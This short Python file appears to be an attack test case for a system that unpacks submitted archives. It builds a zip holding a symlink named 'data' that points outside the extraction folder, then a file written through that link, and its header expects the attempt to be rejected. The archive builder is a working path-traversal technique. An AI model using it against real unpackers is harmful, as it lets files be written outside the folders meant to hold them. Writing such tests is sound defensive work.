"""A zip that first makes a link to a folder elsewhere, and then unpacks a file into that folder."""
# /// attack
# class = 65
# goal = "write a file outside the folder that the archive is unpacked to, by names that look harmless"
# gain = "effect"
# kind = "build"
# outcome = ["failed", "rejected"]
# naive = true
# ///

import stat
import zipfile


def build(folder):
    path = folder / "handed_in.zip"
    link = zipfile.ZipInfo("data")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("work.py", "def standardise(x):\n    return x\n")
        archive.writestr(link, "@OUTSIDE@")
        archive.writestr("data/written", "here")
    return path
